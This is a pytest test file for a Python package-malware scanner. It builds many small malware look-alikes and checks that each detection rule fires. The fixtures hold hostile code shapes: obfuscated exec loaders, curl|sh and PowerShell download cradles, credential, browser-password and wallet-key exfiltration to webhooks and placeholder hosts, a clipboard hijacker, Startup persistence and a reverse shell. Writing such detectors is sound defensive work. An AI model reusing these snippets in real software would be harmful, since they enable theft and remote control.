"""Each rule fires on a small harmless look-alike of the behaviour it describes.

The fixtures have malware's *shape* (decode-then-exec, download-and-run, exfiltration, …) but
their payloads are ``print(1)``-like and their hosts reserved names; nothing is executed.
"""

from __future__ import annotations

import base64
import zlib

import pytest

from stockade.core.threats import scan_bytes
from tests.unit.threats.builders import b64, sdist, setup_py, wheel

HOOK = "https://discord.com/api/webhooks/123456789012345678/" + "a1B2c3D4e5F6g7H8i9J0" * 3
EXE_URL = "https://cdn.discordapp.com/attachments/1/2/tool.exe"


def rules_of(data: bytes, name: str = "demo-1.0.tar.gz") -> dict[str, str]:
    rep = scan_bytes(data, name)
    return {f.rule: f.severity for f in rep.findings}


CASES: list[tuple[str, dict[str, str], str, str]] = [
    (
        "exec of base64 in setup.py",
        {"setup.py": setup_py(f"import base64\nexec(base64.b64decode('{b64('print(1)')}'))")},
        "exec-decoded-payload",
        "malicious",
    ),
    (
        "exec of zlib+base64 through an alias and a lambda",
        {
            "demo/__init__.py": (
                "import zlib as z, base64 as b\n"
                "_ = lambda s: z.decompress(b.b64decode(s[::-1]))\n"
                "exec(_('" + base64.b64encode(zlib.compress(b"print(1)")).decode()[::-1] + "'))\n"
            )
        },
        "exec-decoded-payload",
        "malicious",
    ),
    (
        "chr-join hidden exec",
        {
            "demo/__init__.py": "exec(''.join(chr(c) for c in ["
            + ",".join(str(ord(c)) for c in "print(1)")
            + "]))\n"
        },
        "exec-decoded-payload",
        "malicious",
    ),
    (
        "exec through getattr on builtins with a built name",
        {
            "demo/__init__.py": "import base64\ngetattr(__builtins__, 'ex' + 'ec')("
            f"base64.b64decode('{b64('print(1)')}'))\n"
        },
        "exec-decoded-payload",
        "malicious",
    ),
    (
        "marshal blob",
        {"demo/__init__.py": "import marshal\nexec(marshal.loads(b'" + "\\x00" * 60 + "'))\n"},
        "exec-decoded-literal",
        "malicious",
    ),
    (
        "exec of code fetched from the network",
        {
            "demo/util.py": (
                "from urllib.request import urlopen\n"
                "def update():\n"
                "    exec(urlopen('https://example.invalid/x.py').read())\n"
            )
        },
        "exec-remote-code",
        "malicious",
    ),
    (
        "download and run at install",
        {
            "setup.py": setup_py(
                "import urllib.request, os\n"
                "urllib.request.urlretrieve('https://example.com/tool.exe', 'tool.exe')\n"
                "os.startfile('tool.exe')",
                cmdclass=True,
            )
        },
        "download-execute",
        "malicious",
    ),
    (
        "download from a chat CDN and run, even at runtime",
        {
            "demo/colors.py": (
                "import requests, os\n"
                "def init():\n"
                f"    r = requests.get('{EXE_URL}')\n"
                "    open('tool.exe', 'wb').write(r.content)\n"
                "    os.system('tool.exe')\n"
            )
        },
        "download-execute-untrusted",
        "malicious",
    ),
    (
        "curl | sh at install",
        {"setup.py": setup_py("import os\nos.system('curl -s https://example.invalid/i.sh | sh')")},
        "shell-download-cradle",
        "malicious",
    ),
    (
        "encoded PowerShell that downloads",
        {
            "setup.py": setup_py(
                "import subprocess\nsubprocess.Popen('powershell -WindowStyle Hidden "
                "-EncodedCommand "
                + base64.b64encode(
                    "Invoke-WebRequest -Uri https://example.invalid/a.exe -OutFile a.exe".encode(
                        "utf-16-le"
                    )
                ).decode()
                + "')"
            )
        },
        "shell-download-cradle",
        "malicious",
    ),
    (
        "quote-obfuscated PowerShell decoded from base64",
        {
            "setup.py": setup_py(
                "import base64, os\n"
                "c = base64.b64decode('"
                + b64('pOwershelL -w hidden -C "In"vok"e-W"ebR"equest -Uri https://x.invalid/a"')
                + "').decode()\nos.system(c)"
            )
        },
        "hidden-download-cradle",
        "malicious",
    ),
    (
        "environment sent to a server",
        {
            "demo/__init__.py": (
                "import os, requests\n"
                "requests.post('https://example.invalid/c', data=dict(os.environ))\n"
            )
        },
        "exfil-environment",
        "malicious",
    ),
    (
        "host name sent from an install command",
        {
            "setup.py": setup_py(
                "import socket, urllib.request\n"
                "urllib.request.urlopen('https://example.invalid/?h=' + socket.gethostname())",
                cmdclass=True,
            )
        },
        "install-time-exfil",
        "malicious",
    ),
    (
        "beacon to a request catcher at install",
        {
            "setup.py": setup_py(
                "import urllib.request\nurllib.request.urlopen('https://abc123.oast.fun/x')",
                cmdclass=True,
            )
        },
        "install-time-beacon",
        "malicious",
    ),
    (
        "browser passwords decrypted and posted to a webhook",
        {
            "demo/grab.py": (
                "import os, json, base64, requests\n"
                "from win32crypt import CryptUnprotectData\n"
                "def grab():\n"
                "    p = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data',"
                " 'Default', 'Login Data')\n"
                "    key = json.load(open('Local State'))['os_crypt']['encrypted_key']\n"
                "    secret = CryptUnprotectData(base64.b64decode(key), None, None, None, 0)[1]\n"
                "    data = open(p, 'rb').read()\n"
                f"    requests.post('{HOOK}', files={{'f': data, 'k': secret}})\n"
            )
        },
        "exfil-credentials",
        "malicious",
    ),
    (
        "wallet key sent to a tunnel",
        {
            "demo/main.py": (
                "import requests\n"
                "def sign(private_key):\n"
                "    requests.post('https://a1b2.ngrok-free.app/t', json={'k': private_key})\n"
            )
        },
        "exfil-wallet-secret",
        "malicious",
    ),
    (
        "clipboard hijack",
        {
            "demo/clip.py": (
                "import pyperclip, re\n"
                "def loop():\n"
                "    if re.match(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', pyperclip.paste()):\n"
                "        pyperclip.copy('bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh')\n"
            )
        },
        "clipboard-hijack",
        "malicious",
    ),
    (
        "startup-folder persistence",
        {
            "demo/__init__.py": (
                "import os, shutil\n"
                "d = os.path.join(os.environ['APPDATA'], 'Microsoft', 'Windows', 'Start Menu',"
                " 'Programs', 'Startup')\n"
                "with open(os.path.join(d, 'run.pyw'), 'w') as f:\n"
                "    f.write('print(1)')\n"
            )
        },
        "persistence",
        "malicious",
    ),
    (
        "reverse shell",
        {
            "demo/__init__.py": (
                "import socket, os, subprocess\n"
                "s = socket.socket()\n"
                "s.connect(('203.0.113.9', 4444))\n"
                "os.dup2(s.fileno(), 0)\n"
                "subprocess.call(['/bin/sh', '-i'])\n"
            )
        },
        "reverse-shell-socket",
        "malicious",
    ),
    (
        "python code written to a file then run hidden",
        {
            "setup.py": setup_py(
                "import subprocess, tempfile\n"
                "t = tempfile.NamedTemporaryFile(delete=False, suffix='.py')\n"
                "t.write(b\"from urllib.request import urlopen\\nexec(urlopen('https://"
                "paste.example.invalid/raw').read())\")\n"
                "t.close()\n"
                "subprocess.Popen(['pythonw', t.name])"
            )
        },
        "exec-remote-code",
        "malicious",
    ),
    (
        "python -c payload",
        {
            "demo/__init__.py": (
                "import subprocess\n"
                "subprocess.Popen(['python3', '-c', 'import os; exec(__import__(\"base64\")"
                f'.b64decode("{b64("print(1)")}"))\'])\n'
            )
        },
        "exec-decoded-payload",
        "malicious",
    ),
    (
        "code piped into an interpreter from the network",
        {
            "demo/__init__.py": (
                "import subprocess, sys, requests\n"
                "def go():\n"
                "    code = requests.get('https://example.invalid/c').text.encode()\n"
                "    p = subprocess.Popen([sys.executable, '-'], stdin=subprocess.PIPE)\n"
                "    p.stdin.write(code)\n"
            )
        },
        "exec-remote-code",
        "malicious",
    ),
    (
        "DNS exfiltration under an OOB domain",
        {
            "demo/__init__.py": (
                "import socket, getpass\n"
                "def f():\n"
                "    socket.gethostbyname(getpass.getuser() + '.x1y2.oastify.com')\n"
            )
        },
        "dns-exfil-oob",
        "malicious",
    ),
    (
        "command outputs from a table sent to a request catcher",
        {
            "demo/__init__.py": (
                "import subprocess, requests\n"
                "def collect():\n"
                "    cmds = {'user': ['whoami'], 'host': ['hostname'], 'env': ['env']}\n"
                "    out = {}\n"
                "    for name, cmd in cmds.items():\n"
                "        out[name] = subprocess.run(cmd, capture_output=True).stdout\n"
                "    requests.post('https://x1.webhook.site/c', json=out)\n"
            )
        },
        "exfil-sysinfo-oob",
        "malicious",
    ),
    (
        "webhook address hidden in base64",
        {
            "demo/bot.py": (
                "import base64, requests\n"
                "def report(token):\n"
                f"    hook = base64.b64decode('{b64(HOOK)}').decode()\n"
                "    requests.post(hook, json={'content': token})\n"
            )
        },
        "exfil-hidden-endpoint",
        "malicious",
    ),
    (
        "download copied into the Startup folder",
        {
            "demo/run.py": (
                "import os, requests\n"
                "def setup_autorun():\n"
                "    d = os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows', 'Start Menu',"
                " 'Programs', 'Startup')\n"
                "    with open(os.path.join(d, 'svc.pyw'), 'wb') as f:\n"
                "        f.write(requests.get('https://example.com/svc.pyw').content)\n"
            )
        },
        "persistence-download",
        "malicious",
    ),
    (
        "curl posting $(whoami) from an install helper module",
        {
            "pre_install.py": (
                "import subprocess\n"
                "def pre_install():\n"
                "    subprocess.run('curl -X POST -H \"u: $(whoami)\" https://example.com/c',"
                " shell=True)\n"
            ),
            "setup.py": setup_py(
                "from pre_install import pre_install\npre_install()", cmdclass=True
            ),
        },
        "shell-exfil",
        "malicious",
    ),
    (
        "downloaded file run through a path glued to a variable",
        {
            "demo/fetch.py": (
                "import os, requests\n"
                "def go():\n"
                "    for name in requests.get('http://93.184.216.34/list').text.split():\n"
                "        data = requests.get('http://93.184.216.34/' + name).content\n"
                "        open(name, 'wb').write(data)\n"
                "        os.system(f'./{name} &')\n"
            )
        },
        "download-execute-untrusted",
        "malicious",
    ),
    (
        "PyArmor-protected setup.py",
        {
            "setup.py": (
                "from pyarmor_runtime_000000 import __pyarmor__\n"
                "__pyarmor__(__name__, __file__, b'PY000000" + "\\x00" * 40 + "')\n"
            )
        },
        "protected-install-code",
        "malicious",
    ),
    (
        "packed module: eval kept in a container, computed import, big encoded literal",
        {
            "demo/__init__.py": (
                "class K:\n"
                "    def __init__(self, data):\n"
                "        self.t = ['b', 'a', 's', 'e', '6', '4']\n"
                "        run, m = eval, __import__(self.t[0] + self.t[1] + self.t[2] + self.t[3]"
                " + self.t[4] + self.t[5])\n"
                "        run(m.b64decode(data))\n"
                "K('" + base64.b64encode(bytes(range(256)) * 40).decode() + "')\n"
            )
        },
        "packed-code-exec",
        "malicious",
    ),
    (
        "code hidden off-screen",
        {"demo/__init__.py": "x = 1" + " " * 200 + ";import os\n"},
        "hidden-code",
        "suspicious",
    ),
    (
        "hard-coded webhook",
        {"demo/config.py": f"URL = '{HOOK}'\n"},
        "hardcoded-webhook",
        "suspicious",
    ),
]


@pytest.mark.parametrize(("title", "files", "rule", "verdict"), CASES, ids=[c[0] for c in CASES])
def test_rule_fires(title: str, files: dict[str, str], rule: str, verdict: str) -> None:
    rep = scan_bytes(sdist(files), "demo-1.0.tar.gz")
    found = {f.rule for f in rep.findings}
    assert rule in found, (title, [(f.rule, f.severity, f.snippet) for f in rep.findings])
    assert rep.verdict == verdict, (
        title,
        rep.verdict,
        [(f.rule, f.severity) for f in rep.findings],
    )


def test_pth_file_runs_at_startup() -> None:
    pth = f"import base64; exec(base64.b64decode('{b64('print(1)')}'))\n"
    found = rules_of(wheel({"demo/__init__.py": "", "demo.pth": pth}), "demo-1.0-py3-none-any.whl")
    assert found.get("exec-decoded-payload") == "critical"
    assert "pth-executes-code" in found


def test_decoded_payload_is_scanned_again() -> None:
    inner = "import os\nos.system('curl -s https://example.invalid/x | sh')\n"
    files = {"setup.py": setup_py(f"import base64\nexec(base64.b64decode('{b64(inner)}'))")}
    rep = scan_bytes(sdist(files), "demo-1.0.tar.gz")
    cradle = [f for f in rep.findings if f.rule == "shell-download-cradle"]
    assert cradle, rep.findings
    assert "decoded" in cradle[0].snippet
    assert cradle[0].path.endswith("setup.py")
    assert cradle[0].line == 3  # the line of the exec that carries the payload


def test_nested_archive_path() -> None:
    inner = wheel({"demo/__init__.py": f"import base64\nexec(base64.b64decode('{b64('x=1')}'))\n"})
    rep = scan_bytes(sdist({"vendor/inner.whl": inner}), "demo-1.0.tar.gz")
    hit = next(f for f in rep.findings if f.rule == "exec-decoded-payload")
    assert hit.path == "demo-1.0/vendor/inner.whl!/demo/__init__.py"


def test_bundled_executable_run_by_setup() -> None:
    exe = b"MZ" + b"\x90" * 58 + (64).to_bytes(4, "little") + b"PE\x00\x00" + b"\x00" * 200
    files = {"tool.exe": exe, "setup.py": setup_py("import os\nos.startfile('tool.exe')")}
    assert rules_of(sdist(files)).get("exec-bundled-binary") == "critical"


def test_compiled_python_strings_are_mined() -> None:
    pyc = b"\xa7\r\r\n" + b"\x00" * 12 + b"\xe3" + f"{HOOK}\x00Login Data\x00".encode()
    found = rules_of(
        wheel({"demo/__pycache__/x.cpython-311.pyc": pyc}), "demo-1.0-py3-none-any.whl"
    )
    assert found.get("compiled-python-iocs") == "high"


def test_python_two_setup_is_read() -> None:
    src = "import os\nprint 'installing'\nos.system('wget http://203.0.113.7/x.elf')\n"
    assert "shell-download-cradle" in rules_of(sdist({"setup.py": src}))


def test_padding_is_removed_before_analysis() -> None:
    pad = "__x__" * 1_000_000  # 5 MB of filler: over the parse limit
    src = f"code = '{pad}'\nimport base64\nexec(base64.b64decode('{b64('print(1)')}'))\n"
    found = rules_of(sdist({"demo/__init__.py": src}))
    assert "padded-code" in found
    assert found.get("exec-decoded-payload") == "critical"
